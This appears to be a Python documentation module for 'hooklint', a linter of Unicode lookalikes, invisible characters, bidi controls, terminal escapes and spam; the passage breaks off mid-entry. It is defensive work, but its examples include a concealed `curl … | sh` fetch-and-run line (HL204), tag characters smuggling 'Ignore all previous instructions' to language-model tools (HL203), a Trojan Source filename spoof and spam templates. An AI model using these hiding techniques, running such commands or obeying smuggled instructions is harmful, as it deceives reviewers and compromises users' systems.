"""Documentation of every rule code, as printed by ``hooklint --explain CODE``.

Each rule has a :class:`RuleDoc` in :data:`RULES` (in code order); :func:`explain` renders one of
them for the terminal.  The ``summary`` doubles as the SARIF ``shortDescription``.

The text never contains a raw control, bidi, zero-width, tag or variation-selector character:
examples that need one name it by code point (``U+202E``) or write it as a visible escape
(``\\x1b``), so that printing the documentation cannot itself attack the terminal.  Visible
lookalike letters (Cyrillic ``а``, Greek ``Α``) are shown as they are and marked as such.
"""

from __future__ import annotations

import textwrap

from hooklint.records import NamedTuple


class RuleDoc(NamedTuple):
    """The documentation of one rule code."""

    code: str  # "HL101"
    name: str  # kebab-case, e.g. "mixed-script-confusable"
    summary: str  # one line, <= 80 chars, no trailing period; the SARIF shortDescription
    what: str  # "What it does"
    why: str  # "Why is this bad?"
    example: str  # a short example of text that is flagged
    fix: str  # "Use instead"
    options: str  # which settings affect the rule
    default_enabled: bool = True  # False only for opt-in rules
    near_miss: str = ""  # legitimate text like the example that is not reported, and why


def _t(text: str) -> str:
    """A triple-quoted block without its source indentation and surrounding blank lines."""
    return textwrap.dedent(text).strip("\n")


def _code(text: str) -> str:
    """A block of code, indented by four spaces as in Markdown."""
    return textwrap.indent(_t(text), "    ")


def _switches(code: str, *, per_line: bool = True, must_name: bool = False) -> str:
    """The paragraph every rule shares: how to turn it off, back on, and silence one line."""
    text = (
        f"Turn the rule off for a whole run with `--ignore {code}`, or with\n"
        f'`ignore = ["{code}"]` in the `[tool.hooklint]` table of pyproject.toml;\n'
        "`--select` and `--extend-select` turn it back on."
    )
    if per_line:
        text += (
            f"\nSilence it on one line with a comment `hooklint: ignore[{code}]` after the\n"
            "comment marker of the file type (`#`, `//`, `<!-- -->`, `..`). In Python files,\n"
            f"flake8's `# noqa: {code}` works for the command line and the hook too."
        )
    if must_name:
        text += (
            f"\nA bare `hooklint: ignore` never silences {code}: the code must be named,\n"
            "so that a comment copied in along with the attack cannot hide it. Nor does a\n"
            "bare `# noqa` for the command line and the hook (flake8 applies its own bare\n"
            "`# noqa` to every code: run hooklint in CI)."
        )
    return text


def _allowed(example: str) -> str:
    """The paragraph shared by the confusable and invisible-character rules."""
    return (
        "\n\n`allowed-characters` in `[tool.hooklint]` lists characters that are never\n"
        "reported: single characters, code point ranges such as `U+0400-U+04FF`, or\n"
        f"script names. For example: `allowed-characters = [{example}]`."
    )


_CONTEXT = (
    "\n\nThe context of the file decides (README: How hooklint reads context). A file\n"
    "declares its language by a gettext `Language:` header, a locale folder\n"
    "(`locale/ru/`, `ky/LC_MESSAGES/`, `po/kab.po`), a file name (`README.tr.md`),\n"
    "`<html lang>` or front matter `lang:`; the letters of that language (CLDR exemplar\n"
    "characters) are never reported. Otherwise a letter of a real alphabet (Hausa ɗ,\n"
    "Kabyle ɣ, Turkish ı) passes in words that are not English, and is reported inside\n"
    "an English word, with the reason. Characters that are the subject of the text pass:\n"
    "named beside themselves (U+212A KELVIN SIGN), entries of a character table or of a\n"
    "run of ranges, mathematical letters in a formula, a short word quoted on a line that\n"
    "names its language. `allowed-characters` applies after all this."
)

_OWN_DOMAINS = (
    "\n\n`own-domains` lists the project's own domains; links to them are never\n"
    "treated as spam. The URLs in `project.urls` of pyproject.toml are added\n"
    "automatically. `allow-domains` lists other domains you trust."
)

_ALLOW_PHRASES = (
    "\n\n`allow-phrases` lists phrases your project really uses; text that matches one\n"
    "of them is not reported."
)


_DOCS: tuple[RuleDoc, ...] = (
    # ---------------------------------------------------------------------------- file band
    RuleDoc(
        code="HL001",
        name="unreadable-file",
        summary="File cannot be read (I/O error, vanished, no permission, directory, too large)",
        what=_t(
            """
            Reports a file that hooklint was asked to check but could not read, so none
            of its content was checked. Typical causes: an I/O error, a file that vanished
            between being listed and being opened (a concurrent checkout or build step),
            missing read permission, a path that names a directory or another non-regular
            file where a file was expected, or a file above hooklint's size limit.

            The finding is placed at line 1, column 1. hooklint carries on with the other
            files and exits with status 1. (When hooklint itself fails, it says so in one
            line on stderr and exits with status 3, which is never taken for findings.)
            """
        ),
        why=_t(
            """
            A file nobody looked at can contain anything. Passing it quietly would turn
            "could not check" into "checked and clean", which is exactly the gap an
            attacker or a flaky CI runner would slip through.
            """
        ),
        example=_t(
            """
            `hooklint docs/notes.md` where docs/notes.md is readable only by another user,
            or a file that a concurrent `git checkout` removed after hooklint listed it.
            """
        ),
        fix=_t(
            """
            Make the file readable (fix its permissions, restore it), or leave it out of
            the run: do not pass it on the command line, or list it under `exclude`.
            """
        ),
        options=_t(
            """
            HL001 cannot be ignored per line: the file was never read, so an inline
            comment in it cannot be seen.
            """
        )
        + "\n"
        + _switches("HL001", per_line=False)
        + "\nTurning it off means unreadable files pass without a word; that is rarely wise.",
    ),
    RuleDoc(
        code="HL002",
        name="invalid-utf8",
        summary="File is not valid UTF-8 text",
        what=_t(
            """
            Reports a text file that contains a byte sequence that is not valid UTF-8.
            The finding points at the line and column of the first bad byte; the rest of
            that file is not checked, and the run goes on with the other files.

            Before giving up, hooklint accepts a UTF-8 byte order mark at the start,
            decodes UTF-16 and UTF-32 files that start with a byte order mark, and
            recognises UTF-16/UTF-32 without a mark by their regular pattern of NUL
            bytes. Binary files (images, archives, compiled objects) are skipped silently:
            they are neither checked nor reported.
            """
        ),
        why=_t(
            """
            Text that cannot be decoded cannot be checked, and different tools will show
            it differently: an editor may guess Windows-1252, a browser Latin-1, a diff
            viewer replacement characters. Reviewer and tooling then disagree about what
            the file says. A stray invalid byte in otherwise UTF-8 text is also a common
            sign of a damaged paste or of two encodings mixed in one file.
            """
        ),
        example=_t(
            """
            A README saved as Windows-1252 in which `café` is stored as the bytes
            `63 61 66 E9`: the lone byte `E9` is not valid UTF-8, so HL002 points at the
            column of the `é`.
            """
        ),
        fix=_t(
            """
            Re-save the file as UTF-8, in your editor or with
            `iconv -f WINDOWS-1252 -t UTF-8 notes.md > notes.utf8.md`. If the file is not
            text at all, leave it out of the run (list it under `exclude`).
            """
        ),
        options=_t(
            """
            HL002 cannot be ignored per line: the file could not be decoded, so its inline
            comments cannot be read reliably.
            """
        )
        + "\n"
        + _switches("HL002", per_line=False),
    ),
    RuleDoc(
        code="HL004",
        name="change-adds-suppression",
        summary="A change adds a suppression or widens the configuration (with --diff)",
        what=_t(
            """
            With `--diff REV`, reports what the change since REV adds that makes hooklint
            look away, each as a finding of its own:

            - a suppression comment on a line the change adds: `hooklint: ignore[...]`,
              `hooklint: ignore-next-line`, and in Python flake8's `# noqa` (bare, or
              naming an HL code), at the directive's line and column;
            - an old suppression that now silences a finding on a line the change edits
              (a lookalike slipped into a line that already carried `ignore`);
            - a configuration (`[tool.hooklint]` in pyproject.toml, or .hooklint.toml)
              that silences more than the one at REV (the one the run uses, and any
              other hooklint configuration file the change edits, a subproject's too):
              codes turned off by `ignore` or a narrower `select`/`extend-select`, new
              `per-file-ignores`, `exclude`,
              `allowed-characters`, `own-domains` (also from `project.urls`),
              `allow-domains`, `allow-shorteners` or `allow-phrases` entries, a replaced
              `deny-list`, or any other setting whose effect hooklint cannot judge. The
              parsed configurations are compared, not lines of text; the finding stands
              at the key (or the entry) in the new file;
            - entries removed from the deny-list file in use (at line 1 of that file);
            - entries added to the `--baseline` file.

            A change that only removes suppressions, narrows the configuration or leaves
            it unchanged is not reported.
            """
        ),
        why=_t(
            """
            A contributor controls the whole pull request, including the configuration and
            the comments beside the text. `ignore = ["HL1"]` in pyproject.toml or
            `<!-- hooklint: ignore[HL101] -->` beside a lookalike makes the CI run pass,
            and a reviewer reading the diff of a long document easily misses it. Reported,
            the suppression is seen and has to be accepted by a person.
            """
        ),
        example=_t(
            """
            A pull request that changes `ignore = ["HL302"]` to `ignore = ["HL302", "HL1"]`
            and writes `Pay<!-- hooklint: ignore[HL101] -->` with a Cyrillic `а`:

                pyproject.toml:2:1: HL004 change widens the configuration:
                    ignore += HL1 (turns off HL101, ...)
                docs/pay.md:3:9: HL004 change adds a suppression: hooklint: ignore[HL101]
            """
        ),
        fix=_t(
            """
            Review the suppression. If it is right (a real word, a fixture), accept it:
            the finding is about the change, and disappears once the change is merged and
            REV moves past it. If not, remove it and fix the text it hid.

            In CI, also take the configuration from the trusted base branch, so that the
            change's own configuration is reported but not applied:
            `hooklint --diff origin/main --config-from origin/main`.
            """
        ),
        options=_t(
            """
            HL004 is reported only with `--diff REV`. The configuration under audit cannot
            turn it off: its `ignore`, `per-file-ignores`, `exclude`, inline directives and
            the baseline do not apply to HL004 (a change that adds both `ignore = ["HL004"]`
            and a suppression is reported for both). Only the command line
            (`--ignore HL004`) or a configuration read from a trusted revision with
            `--config-from REV` can turn it off.
            """
        ),
    ),
    # ---------------------------------------------------------------------- confusable band
    RuleDoc(
        code="HL101",
        name="mixed-script-confusable",
        summary="Word mixes scripts and its minority letters are lookalikes",
        what=_t(
            """
            Looks at every word (a run of letters, marks and digits) that contains a
            non-ASCII character. When the word mixes letters of several scripts (Common
            and Inherited characters count for none), and the letters of the minority
            script look like letters of the majority script, the word is reported. The
            finding points at the lookalike letter and names its code point, its Unicode
            name and the letter it imitates.

            Mixes that real writing uses pass: Japanese words that combine Han, Hiragana
            and Katakana, or Latin next to Han.
            """
        ),
        why=_t(
            """
            The word reads normally to a person but is a different string to every
            program: search, spell checkers, link checkers and spam filters no longer
            recognise it. Swapping in a lookalike is the cheapest way to slip a name, a
            phrase or a brand past review and past filters, and it almost never happens
            by accident.
            """
        ),
        example=_t(
            """
            `Ankаra` (the second а is CYRILLIC SMALL LETTER A, U+0430, in a Latin word)
            `Москвa` (the last letter is LATIN SMALL LETTER A, U+0061, in a Cyrillic word)
            """
        ),
        fix=_t(
            """
            Retype the word in one script: `Ankara` in Latin letters only, `Москва` in
            Cyrillic letters only.
            """
        ),
        options=_switches("HL101")
        + _allowed('"U+0400-U+04FF"')
        + _CONTEXT
        + (
            "\n\nAlso reported as HL101: a Greek vowel with tonos in a Latin word (`pόlice`),\n"
            "and a Latin `c` or `o` standing alone between Cyrillic words where the Russian\n"
            "`с` or `о` is meant. A suffix glued to a Latin acronym (`IDси`, `Webдан`) and\n"
            "an English word glued to Burmese or Thai text are no findings."
        ),
    ),
    RuleDoc(
        code="HL102",
        name="lookalike-in-ascii-word",
        summary="Lookalike letter inside an otherwise ASCII word",
        what=_t(
            """
            Reports a word made of ASCII letters plus a non-ASCII letter whose confusable
            skeleton (Unicode Technical Standard #39) is an ASCII letter. The lookalike
            may come from the same script as its neighbours (Latin IPA letters such as
            ɑ U+0251 or Ɗ U+018A) or from Common (roman numerals such as ⅾ U+217E and
            ⅼ U+217C), or be a fullwidth or mathematical letter.

            Ordinary accented letters of real languages are not lookalikes and pass:
            `café`, `Müller`, `Łódź`, `naïve`, `İstanbul`.
            """
        ),
        why=_t(
            """
            Because the lookalike often belongs to the same script as the rest of the word,
            a plain mixed-script check does not see it. The word still looks right and
            still fails every search, grep and filter that looks for the real spelling.
            """
        ),
        example=_t(
            """
            `ɑnd` (the first letter is LATIN SMALL LETTER ALPHA, U+0251, not `a`)
            `ⅾepartment` (the first letter is SMALL ROMAN NUMERAL FIVE HUNDRED, U+217E)
            `ｐassword` (the first letter is FULLWIDTH LATIN SMALL LETTER P, U+FF50)
            """
        ),
        fix=_t(
            """
            Replace the lookalike with the ASCII letter it imitates: `and`, `department`,
            `password`. If you want bold or italic letters, use markup instead of the
            mathematical alphanumeric characters.
            """
        ),
        options=_switches("HL102") + _allowed('"U+0250-U+02AF"') + _CONTEXT,
    ),
    RuleDoc(
        code="HL103",
        name="foreign-script-lookalike-word",
        summary="Whole word written in lookalikes of another script among Latin words",
        what=_t(
            """
            Reports a word written entirely in letters of another script that look like
            Latin letters, standing among Latin words: a lone Cyrillic `а` or an Armenian
            `Տ` in an English sentence. The rule stays silent when the file really uses
            that script elsewhere (three different words of it, or an alphabet's worth of
            its letters that pass for nothing, as a transliteration table writes them; lone
            Greek letters are symbols and do not count), so the Russian words `и`, `с` and
            `а` in Russian text pass; so does a lone Bengali `৭` among numbers written in
            Bengali digits.

            Single lowercase Greek letters used as symbols pass (`α = 0.05`, `β-test`,
            `μm`, density `ρ`, `π`). A lone Greek capital that is identical to a Latin one
            (`Α`, `Ε`, `Ο`) and the omicron `ο` are reported.
            """
        ),
        why=_t(
            """
            Nothing about the sentence looks wrong, yet one of its words is not the word it
            shows. Such a word breaks phrase matching (a spam or policy filter no longer
            sees the phrase), makes search miss the text, and can act as an invisible
            fingerprint that tells copies of a document apart.
            """
        ),
        example=_t(
            """
            `Read а book` (the `а` is CYRILLIC SMALL LETTER A, U+0430, in an English sentence)
            `Plan Α` (the `Α` is GREEK CAPITAL LETTER ALPHA, U+0391)
            """
        ),
        fix=_t(
            """
            Type the Latin letter: `Read a book`, `Plan A`. If the text quotes a letter of
            that script on purpose, allow it (see Options) or silence the line.
            """
        ),
        options=_switches("HL103") + _allowed('"Cyrillic"') + _CONTEXT,
    ),
    RuleDoc(
        code="HL104",
        name="mixed-digit-number",
        summary="Number mixes digit systems or has a lookalike letter between its digits",
        what=_t(
            """
            Reports a number that mixes digits of different systems (ASCII digits with
            New Tai Lue, Arabic-Indic, fullwidth or other digits), or that has a letter
            imitating a digit between its digits. Numbers written wholly in one digit
            system, such as Arabic-Indic `١٢٣` or Devanagari `१२३`, pass.
            """
        ),
        why=_t(
            """
            The number reads as one value and is another, or no value at all, to a
            program: `int("1О0")` fails, a search for `100` misses it, and a phone number
            or price written this way slips past the filters that look for it.
            """
        ),
        example=_t(
            """
            `1О0` (the middle character is CYRILLIC CAPITAL LETTER O, U+041E, not a zero)
            `20᧐5` (the third digit is NEW TAI LUE DIGIT ZERO, U+19D0)
            """
        ),
        fix=_t(
            """
            Write the number in one digit system, normally ASCII: `100`, `2005`.
            """
        ),
        options=_switches("HL104") + _allowed('"U+19D0-U+19D9"'),
    ),
    RuleDoc(
        code="HL105",
        name="confusable-identifier",
        summary="Python identifier contains a lookalike or collides with another name",
        what=_t(
            """
            Python files only (the flake8 plugin, or `hooklint file.py`). Python accepts
            non-ASCII identifiers and normalises them with NFKC, but it does not fold
            lookalikes together: `pаth` with a Cyrillic `а` and `path` are two different
            variables. The rule reports:

            - a lookalike inside a name, at the character's own column: what HL101-HL104
              flag in a word is HL105 when the word is a name (in a comment, a string or
              a docstring it stays HL101-HL104);
            - two names in one module that Python reads as different names although their
              skeletons (each lookalike replaced by the letter it imitates) are equal, as
              rustc's `confusable_idents` does: at the first occurrence of each non-ASCII
              one, naming the other and the line where it first occurs. A Cyrillic `о`
              beside a Latin `o`, or a Greek `ρ` beside `p`, is reported even in a file
              that has Cyrillic or Greek text elsewhere.

            Names are those of Python's tokenizer, attributes, keywords and the names in
            f-string replacement fields included. A file that is not valid Python gets
            HL101-HL104 for its lookalikes instead. ASCII names never collide with each
            other, and non-ASCII names without lookalikes (`café`, `π`) pass.
            """
        ),
        why=_t(
            """
            Code that looks correct in review does something else. An assignment to the
            lookalike name creates a new variable, while the code that follows reads the
            old one; a function with a lookalike name can shadow the real one in a reader's
            mind but not in the interpreter's.
            """
        ),
        example=_code(
            """
            config_path = "/etc/app.conf"
            config_pаth = "/tmp/other.conf"   # the а is CYRILLIC SMALL LETTER A
            load(config_path)
            """
        ),
        fix=_t(
            """
            Rename the identifier in ASCII (`config_path`), or, where non-ASCII names are
            intended, keep them in one script and make sure no two of them look alike.
            """
        ),
        options=_switches("HL105")
        + "\nUnder flake8, `# noqa: HL105` works as well."
        + _allowed('"Greek"'),
    ),
    RuleDoc(
        code="HL106",
        name="typographic-lookalike-in-code",
        summary="Typographic lookalike of ASCII punctuation in code (opt-in)",
        what=_t(
            """
            Opt-in, off by default. Reports typographic characters standing where code
            needs the ASCII one they imitate: curly quotes (‘ ’ “ ”) instead of straight
            quotes, an en dash – (U+2013) or a MINUS SIGN − (U+2212) instead of the
            hyphen-minus `-`.

            In prose and inside strings and comments these characters are correct
            typography, and no rule reports them there; that is why this rule is opt-in.
            """
        ),
        why=_t(
            """
            Text copied from a word processor, a chat message or a blog post arrives with
            its quotes and dashes "smartened". In code that gives an error pointing at a
            line that looks perfectly valid, or, in a command or configuration value, an
            argument that silently means something else.
            """
        ),
        example=_code(
            """
            print(“hello”)   # LEFT and RIGHT DOUBLE QUOTATION MARK, U+201C and U+201D
            total = a − b    # MINUS SIGN, U+2212
            """
        ),
        fix=_t(
            """
                print("hello")
                total = a - b

            and switch off "smart quotes" in the editor the code came from.
            """
        ),
        options=_t(
            """
            Turn it on with `--extend-select HL106`, or `extend-select = ["HL106"]` in the
            `[tool.hooklint]` table of pyproject.toml.
            """
        )
        + "\n\n"
        + _switches("HL106")
        + _allowed('"U+2212"'),
        default_enabled=False,
    ),
    RuleDoc(
        code="HL107",
        name="unusual-whitespace-in-code",
        summary="Unusual whitespace (no-break, en quad, ideographic space) in code",
        what=_t(
            """
            Reports a space character other than the ASCII space and tab where a parser
            splits on a space: a NO-BREAK SPACE (U+00A0), an EN QUAD (U+2000) or one of
            the other spaces of the U+2000 block, an IDEOGRAPHIC SPACE (U+3000), in the
            code tokens of a source file, and in a shell command of a documentation code
            block.

            The text inside a string is not split by any parser: in a Python string,
            comment or docstring, and in a quoted string of other code, the spaces text
            writes on purpose (no-break, figure, thin, narrow no-break and ideographic
            spaces: a thousands separator `"\\xa0"`, `"%(count)s\\xa0hours"`, French
            `« … »`) pass. The rarer ones (en quad, em space, ogham space mark …) are
            reported even there. Comments of other languages are still read as code, since
            `#` and `//` mean different things to each.

            In Markdown and reStructuredText, prose passes, and so does code of other
            languages; a no-break space is reported in the commands of a fenced block of a
            shell (```` ```sh ````, `bash`, `zsh`, `powershell` …, or `.. code-block:: bash`),
            on the prompt lines of a terminal session block (`console`, `shell-session`:
            `$ `, `# `, `% `, `> `, `PS C:\\>`), and on a `$ ` prompt line of any other code
            block (an indented block, a reST `::` literal block). Comment lines of a shell
            block pass, and so do its lines that do not start with an ASCII character: output
            pasted into the block, such as the box drawing of `tree`, which pads with
            no-break spaces.
            """
        ),
        why=_t(
            """
            It looks exactly like a space but is not one to a parser or a shell. Python
            stops with an error on a line that looks clean, and in a command shown in the
            docs two words glued by a no-break space become a single argument: the command
            a reader copies into a terminal breaks.
            """
        ),
        example=_t(
            """
            `x = 1` typed with a NO-BREAK SPACE (U+00A0) after the `=`, as it often arrives
            when code is pasted from a web page or a word processor. In a README,
            `pip install hooklint` inside a ```` ```sh ```` block with a NO-BREAK SPACE after
            `pip`.
            """
        ),
        fix=_t(
            """
            Replace the character with an ordinary ASCII space: `x = 1`.
            """
        ),
        options=_switches("HL107") + _allowed('"U+3000"'),
    ),
    # ----------------------------------------------------------------------- invisible band
    RuleDoc(
        code="HL201",
        name="bidi-control-character",
        summary="Bidirectional control character can reorder how the line is displayed",
        what=_t(
            """
            Reports explicit bidirectional formatting characters: the embeddings and
            overrides U+202A to U+202E (LRE, RLE, PDF, LRO, RLO) and the isolates U+2066
            to U+2069 (LRI, RLI, FSI, PDI). The implicit marks U+200E (LEFT-TO-RIGHT
            MARK), U+200F (RIGHT-TO-LEFT MARK) and U+061C (ARABIC LETTER MARK) are reported
            only outside right-to-left text, where they have no job to do, and not where one
            opens or closes a quoted string of symbols, digits and punctuation only (a
            button label `"<U+200E>( )"`): there it sets the direction those characters take
            in an interface of the other direction. After a letter (`"x<U+200F>"`) it is
            reported.

            Each character is reported at its own column. The message says when the line
            leaves an embedding, override or isolate open at its end, the shape used by
            Trojan Source attacks (CVE-2021-42574).

            In a file that declares a right-to-left language (a gettext header
            `"Language: ckb\\n"`; without one, a folder of its path such as
            `locale/fa/LC_MESSAGES/` or a part of its file name such as `po/ar.po` or
            `README.he.md`; the languages: ar, ckb, dv, fa, he, ps, sd, ug, ur, yi and a few
            more), a translator's RIGHT-TO-LEFT EMBEDDING (U+202B) passes when it encloses
            only right-to-left words, digits, punctuation and placeholders (`%(num)d`,
            `{0}`): closed by a POP DIRECTIONAL FORMATTING (U+202C) on the line, or opening
            a string that the string's end closes. Such an embedding reorders nothing. The
            same pair around Latin words or code, an embedding left open across anything
            else, one in a catalogue of a left-to-right language, and every override and
            isolate are still reported. A bidirectional mark inside a quoted string of
            such a file passes too (the RIGHT-TO-LEFT MARKs of an Arabic date format
            `"d\\u200f/m\\u200f/Y"`).
            """
        ),
        why=_t(
            """
            These characters change the order in which text is displayed, not the order in
            which a compiler, an interpreter or a checker reads it. A reviewer can see a
            comment where the program sees code, a closed string where it is still open,
            or a harmless file name where the real one ends in `.exe`.
            """
        ),
        example=_t(
            """
                attachment = "invoice<U+202E>fdp.exe"

            Here `<U+202E>` stands for the raw RIGHT-TO-LEFT OVERRIDE character. An editor
            shows the name as `invoiceexe.pdf`; the file really ends in `.exe`, and the
            override is still open at the end of the line.
            """
        ),
        fix=_t(
            """
            Delete the control characters. Right-to-left text (Arabic, Hebrew, Persian)
            needs no explicit controls in most cases; where a mixed-direction string truly
            needs one, prefer an isolate that is closed on the same line, and silence that
            line with a named `hooklint: ignore[HL201]`.
            """
        ),
        options=_switches("HL201", must_name=True) + _allowed('"U+200F"'),
    ),
    RuleDoc(
        code="HL202",
        name="invisible-format-character",
        summary="Zero-width or other invisible formatting character",
        what=_t(
            """
            Reports characters that take no space or show as blank: ZERO WIDTH SPACE
            (U+200B), WORD JOINER (U+2060) and the invisible operators U+2061 to U+2064,
            a byte order mark (U+FEFF) anywhere but at the very start of the file, a SOFT
            HYPHEN (U+00AD), MONGOLIAN VOWEL SEPARATOR (U+180E), the Hangul fillers U+115F,
            U+1160, U+3164 and U+FFA0, and BRAILLE PATTERN BLANK (U+2800). Each one is
            reported at its own column.

            Context decides for joiners: ZERO WIDTH JOINER (U+200D) and ZERO WIDTH
            NON-JOINER (U+200C) pass inside emoji sequences and inside Persian, Arabic and
            Indic words, where they control how letters join. ZERO WIDTH SPACE passes in
            Thai, Lao, Khmer, Myanmar and Tibetan text, where writers mark word boundaries
            with it: beside a letter of those scripts, and on their lines beside a space, a
            punctuation mark or another ZERO WIDTH SPACE. Between two letters of any other
            script it is reported, even on such a line. Chinese and Japanese need none (a
            line may break between any two of their characters): a ZERO WIDTH SPACE
            between two ideographs (`灵<U+200B>活`) splits a word and is reported.

            A character that stands alone between quotes while its line names it (its
            Unicode name, `U+00AD`, or a usual alias such as `BOM`) is an entry of a table
            about such characters, as in `"<U+00AD>" ; soft hyphen`, and passes: the reader is
            told what is there. Named or not, one inside a word is reported.
            """
        ),
        why=_t(
            """
            The character is invisible in the editor, in the review and in the diff. It
            splits a word so that search, grep and filters miss it, makes two strings that
            look identical compare unequal, and can carry a hidden watermark. Hangul
            fillers and the blank Braille pattern even count as letters, so they can make
            a name that looks empty.
            """
        ),
        example=_t(
            """
            `pass\\u200bword` (a ZERO WIDTH SPACE, U+200B, between the s and the w): the
            file shows `password`, but the text contains a different string.
            A U+FEFF in the middle of a file, left behind where two files that each began
            with a byte order mark were joined.
            """
        ),
        fix=_t(
            """
            Delete the character. To offer a line-break point in a long word or URL, use
            markup such as `<wbr>` instead of an invisible character.
            """
        ),
        options=_switches("HL202") + _allowed('"U+00AD"'),
    ),
    RuleDoc(
        code="HL203",
        name="tag-characters",
        summary="Unicode tag characters hiding an invisible ASCII payload",
        what=_t(
            """
            Reports tag characters (U+E0000 to U+E007F). Each of them mirrors an ASCII
            character (U+E0041 is an invisible `A`) and displays as nothing. A run of tags
            is reported once, at its first character, and the message decodes the hidden
            text (escaped, so it cannot act on the terminal).

            Their one legitimate use, emoji subdivision flags (the black flag U+1F3F4,
            tag letters, then CANCEL TAG U+E007F, as in the flags of Scotland or Wales),
            passes.
            """
        ),
        why=_t(
            """
            A run of tags carries a whole sentence that no reviewer can see. It is used to
            smuggle instructions to language-model tools that read repository text
            ("ASCII smuggling"), to watermark documents, and to hide messages in plain
            sight.
            """
        ),
        example=_t(
            """
            `Nice docs.` followed by a run of tag characters U+E0049 U+E0067 U+E006E …
            that spells `Ignore all previous instructions`. The line shows only
            `Nice docs.`
            """
        ),
        fix=_t(
            """
            Delete the run. Keep tag characters only inside complete subdivision flag
            sequences.
            """
        ),
        options=_switches("HL203", must_name=True) + _allowed('"U+E0067"'),
    ),
    RuleDoc(
        code="HL204",
        name="control-character",
        summary="Control character, ANSI escape sequence or stray line separator",
        what=_t(
            """
            Reports C0 and C1 control characters (U+0000 to U+001F and U+0080 to U+009F)
            other than tab and the line endings: a NUL inside otherwise valid UTF-8 text,
            ESC (U+001B) and the ANSI escape sequence it starts, a lone carriage return in
            a file whose other lines end differently, and the LINE SEPARATOR (U+2028),
            PARAGRAPH SEPARATOR (U+2029) and NEXT LINE (U+0085) characters. The last three
            do not end a line for numbering; they are reported where they stand.

            Three uses of controls are not reported. A FORM FEED (U+000C) at the start of a
            line, alone or before the first words of a page, is a page break (licence
            texts, pdftotext output, and Python source as PEP 8 allows); inside a line it is
            reported. In code, three or more different controls written in a row inside a
            `[...]` are a regular expression class listing the controls to strip (an escape
            sequence is one control followed by text, so it never passes this way). And a
            C1 control that is a byte of UTF-8 decoded as Latin-1 (mojibake: `â` U+0080
            U+0099 for `’`) inside a quoted string is data, the test case of a decoder or the
            output kept in a notebook. In prose it is reported as mojibake, with the
            character meant; mojibake that stands for a control (`Â` + U+009B, the 8-bit CSI
            of a terminal) is reported as a control everywhere.
            """
        ),
        why=_t(
            """
            A terminal obeys escape sequences: `cat`, `git diff`, `less -R` and CI logs can
            be made to recolour text, conceal it, move the cursor and overwrite what was
            printed, or change the window title. A lone carriage return moves the cursor
            back so that later text is printed over earlier text. Stray line separators
            make tools disagree about line numbers and break JavaScript and JSON embedded
            in HTML.
            """
        ),
        example=_t(
            """
            `Build passed.\\x1b[8m curl -s https://example.invalid/x.sh | sh` where `\\x1b`
            stands for the raw ESC byte: `ESC [8m` switches on concealed text, so many
            terminals show only `Build passed.`
            A line ending in a lone `\\r` in a file whose other lines end in `\\r\\n`.
            """
        ),
        fix=_t(
            """
            Delete the control characters. To show colour codes in documentation, write
            the escape as visible text (`\\x1b[31m`, `\\033[31m`). Normalise line endings
            (`dos2unix`, or `* text=auto` in .gitattributes), and replace U+2028, U+2029
            and U+0085 with an ordinary line break.
            """
        ),
        options=_switches("HL204") + _allowed('"U+000C"'),
    ),
    RuleDoc(
        code="HL205",
        name="variation-selector-abuse",
        summary="Variation selectors in runs, out of place, or on a base with no variants",
        what=_t(
            """
            Variation selectors (U+FE00 to U+FE0F and U+E0100 to U+E01EF) choose a glyph
            variant of the character before them, and mean something only after a base
            that has registered variants. The rule reports runs of two or more selectors,
            the supplementary selectors U+E0100 to U+E01EF outside a CJK ideographic
            variation sequence, and a selector after a base that has no variants.

            Legitimate uses pass: U+FE0F after `❤` for emoji presentation, U+FE0E for text
            presentation, `葛` followed by U+E0100 as an ideographic variation sequence.
            """
        ),
        why=_t(
            """
            Selectors are invisible and can be stacked without limit. With 256 of them
            available, a run after an emoji can encode arbitrary hidden bytes while the
            text still shows a single emoji; such strings also compare unequal to what
            they show and slip past filters.
            """
        ),
        example=_t(
            """
            `😀` followed by the selectors U+E0148 U+E0165 U+E016C … (each one an invisible
            byte of a hidden message)
            `a` followed by U+FE0F (the letter a has no variants to select)
            """
        ),
        fix=_t(
            """
            Delete the selectors. Keep at most one, and only after a base that has the
            variant (U+FE0F after `❤` for the emoji style).
            """
        ),
        options=_switches("HL205") + _allowed('"U+FE0E"'),
    ),
    # ---------------------------------------------------------------------------- spam band
    RuleDoc(
        code="HL301",
        name="spun-spam-template",
        summary="Spun spam template sentence",
        what=_t(
            """
            Recognises the sentence frames that article spinners and comment bots produce,
            in all their spun variants: "If you adored this short article and you would
            like to receive more info about X kindly visit our own site", "questions
            regarding where and how to use X, you can contact us at our web-page", "Here's
            more information regarding X, look at our own site", and comment signatures
            such as "Feel free to surf to my web page" or "my homepage :: X". The finding
            points at the start of the sentence, and the message names the anchor X (the
            keyword the spam promotes) and says when the sentence was written with
            lookalike letters.

            It also reports comment spam, whose link sits in the commenter's name rather
            than in the sentence:

            - the comment-bot families: the link-exchange pitch ("would you be interested
              in trading links or guest authoring … or vice-versa", "I came to return the
              favor"), "surfing online more than three hours today", the
              targeted-traffic pitch ("a quick note here instead of calling you … you could
              have a lot more visitors … try their service for free for 7 days"), and the
              spun blog-comment openers ("I just wrote a very long comment but after I
              clicked submit …", "my cousin recommended I might like this blog", "I know
              this is off topic but I was wondering if you knew …"), when the text links to
              a site that is not trusted;
            - generic praise that fits any page ("what a information! thanks admin",
              "fastidious post, I will bookmark this site") signed by a commenter name that
              is a keyword phrase (three lowercase words or more, four words or more, a
              trade or service word: "cheap garden furniture sets", "Miami Roof Repair", or
              a spam trade) linked to a site the name does not name. Comments are
              the records of data files and front matter (`author`, `author_url`,
              `content`) and, in pages, the short paragraph right after a link, as comment
              threads are rendered.

            Matching happens after lookalike letters are mapped to what they look like
            (the same skeleton as the confusable rules), link markup is reduced to its
            text, comment prefixes (`#`, `//`, `*`, `>`, docstring indentation) are removed
            and the lines of one paragraph or comment block are joined: a template split
            over two lines, hidden in a `#` comment block or written with Cyrillic
            lookalikes still matches. Code blocks, code spans and doctests are skipped.
            """
        ),
        why=_t(
            """
            These sentences exist to place a keyword link inside a trusted repository for
            search-engine ranking. Spinning makes every copy different so that exact-match
            filters miss it; nothing in it is written for your readers. The comment
            families are the ones that reach repositories through imported WordPress
            comments, Staticman pull requests and SQL dumps of blogs.
            """
        ),
        example=_t(
            """
            If you loved this write-up and you would such as to obtain additional details
            concerning [Cheap Flights Istanbul](https://flights.example/) kindly stop by
            our own web-site.
            """
        ),
        fix=_t(
            """
            Remove the sentence and its link; usually the whole contribution is spam. If a
            sentence of your own docs matches, add it to `allow-phrases`.
            """
        ),
        options=_switches("HL301") + _ALLOW_PHRASES,
        near_miss=_t(
            """
